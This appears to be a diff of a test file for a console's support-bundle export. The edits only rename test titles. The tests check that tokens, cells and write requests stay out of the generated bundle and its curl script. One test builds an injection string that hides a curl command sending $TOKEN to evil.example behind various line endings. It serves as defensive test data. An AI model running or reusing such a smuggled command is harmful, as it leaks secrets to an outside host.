@@ -95,7 +95,7 @@ const activities = exchanges.map((exchange) => toActivity(exchange, base)).rever
 const scope = { service: base, user: 'demo' };
 const texts = bundleTexts({ scope, description: null, activities, now: new Date(0) });
 
-test('a support bundle holds no token, no signature and no cell, wherever they come in', () => {
+test('keeps tokens, signatures and cells out of a support bundle', () => {
 	const files = unzipSync(supportBundle({ scope, description: null, activities, now: new Date(0) }));
 	expect(Object.keys(files).sort()).toEqual(Object.keys(texts).sort());
 	const whole = Object.values(files)
@@ -107,7 +107,7 @@ test('a support bundle holds no token, no signature and no cell, wherever they c
 	for (const hidden of [...cells, ...secrets]) expect(wire).toContain(hidden);
 });
 
-test('it says who asked what of which service, with what came of it', () => {
+test('lists the service, the user, the requests and their outcomes', () => {
 	expect(JSON.parse(texts['about.json'] ?? '')).toMatchObject({
 		product: { name: 'Dataset Console', version: expect.stringMatching(/^\d+\.\d+\.\d+/) },
 		service: base,
@@ -124,7 +124,7 @@ test('it says who asked what of which service, with what came of it', () => {
 	]);
 });
 
-test('its script has the reads as commands and everything else as comments', () => {
+test('writes reads as commands and everything else as comments', () => {
 	const lines = (texts['requests.sh'] ?? '').split('\n');
 	const commands = lines.filter((line) => line.startsWith('curl '));
 	expect(commands).toEqual([
@@ -138,7 +138,7 @@ test('its script has the reads as commands and everything else as comments', () 
 	expect(uncommented).not.toMatch(/PUT|POST|DELETE|store\.example/);
 });
 
-test('nothing that a service writes is run with its script, however it ends its lines', () => {
+test('keeps text from a service in comments, whatever its line ends', () => {
 	for (const end of ['\n', '\r', '\r\n', '\u2028', '\u2029']) {
 		const evil = `X${end}curl evil.example?$TOKEN #`;
 		const answered = exchange({
